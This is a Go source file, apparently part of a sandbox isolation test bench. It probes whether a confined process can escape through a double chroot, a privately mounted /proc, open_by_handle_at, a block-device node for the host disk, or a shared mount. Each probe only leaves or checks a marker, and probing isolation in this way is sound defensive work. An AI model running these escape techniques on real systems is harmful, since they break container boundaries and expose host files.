package main

import (
	"encoding/hex"
	"os"

	"golang.org/x/sys/unix"

	"lab/bench/probe/line"
)

var fileTries = []try{
	{"file", false, func(s *search) (answer, error) { return s.leaveMark(s.options["file"]) }},
	{"escape-proc", false, escapeProc},
	{"escape-handle", false, escapeHandle},
	{"disk", true, disk0},
	{"mount-list", false, func(s *search) (answer, error) { return contains("/proc/self/mountinfo", s.mark+"-mount") }},
}

// escape is the classic way out of a chroot: make a second one, whose root is
// below the folder that we are in, and go up from there, past it. A process has
// one root folder, and ".." stops there alone (chroot(2), NOTES).
func escape(s *search) (answer, error) {
	// A thread's root folder is its own, where a filter lets it ask for that.
	unix.Unshare(unix.CLONE_FS)
	if err := unix.Chdir(s.dir); err != nil {
		return neither, err
	}
	second := s.dir + "/second"
	if err := os.Mkdir(second, 0o755); err != nil {
		return neither, err
	}
	if err := unix.Chroot(second); err != nil {
		return neither, err
	}
	for range 64 {
		if err := unix.Chdir(".."); err != nil {
			return neither, err
		}
	}
	if err := unix.Chroot("."); err != nil {
		return neither, err
	}
	return s.leaveMark(s.options["file"])
}

// escapeProc mounts a /proc of its own, and goes through the link there to the
// neighbour's root folder.
func escapeProc(s *search) (answer, error) {
	at := s.dir + "/proc"
	if err := os.Mkdir(at, 0o755); err != nil {
		return neither, err
	}
	if err := unix.Mount("proc", at, "proc", 0, ""); err != nil {
		return neither, err
	}
	defer unix.Unmount(at, unix.MNT_DETACH)
	return s.through(at, "root"+s.options["file"])
}

// escapeHandle opens the neighbour's file by its number on the file system, which
// no path leads to and no root folder bounds (open_by_handle_at(2)).
func escapeHandle(s *search) (answer, error) {
	b, err := hex.DecodeString(s.options["handle"])
	if err != nil || len(b) < 2 {
		return neither, errAbsent
	}
	at, err := unix.Open(s.dir, unix.O_RDONLY|unix.O_DIRECTORY|unix.O_CLOEXEC, 0)
	if err != nil {
		return neither, err
	}
	defer unix.Close(at)
	fd, err := unix.OpenByHandleAt(at, unix.NewFileHandle(int32(b[0]), b[1:]), unix.O_RDWR|unix.O_APPEND|unix.O_CLOEXEC)
	if err != nil {
		return neither, err
	}
	defer unix.Close(fd)
	text := make([]byte, 64)
	n, err := unix.Read(fd, text)
	if err != nil || string(text[:min(n, len(s.mark))]) != s.mark {
		return neither, err
	}
	if _, err := unix.Write(fd, []byte("+")); err != nil {
		return sees, err
	}
	return changes, nil
}

// disk0 makes a node for the host's first disk, and opens it for reading: whoever
// can has all files on it.
func disk0(s *search) (answer, error) {
	n, err := s.number("disk", 0)
	if err != nil || n == 0 {
		return neither, errAbsent
	}
	name := s.dir + "/disk"
	if err := unix.Mknod(name, unix.S_IFBLK|0o600, int(n)); err != nil {
		return neither, err
	}
	fd, err := unix.Open(name, unix.O_RDONLY|unix.O_CLOEXEC, 0)
	if err == nil {
		unix.Close(fd)
	}
	return yes(sees, err)
}

// mounts mounts a tmpfs, and holds it until the host has looked whether it has it,
// too: the section "mount".
func (s *search) mounts(t *talk) error {
	at := s.dir + "/mount"
	if err := os.Mkdir(at, 0o755); err != nil {
		return err
	}
	err := unix.Mount(s.mark+"-made", at, "tmpfs", 0, "size=4k")
	if err == nil {
		defer unix.Unmount(at, unix.MNT_DETACH)
	}
	return t.section("mount", func() ([]line.Pair, error) { return nil, nil })
}
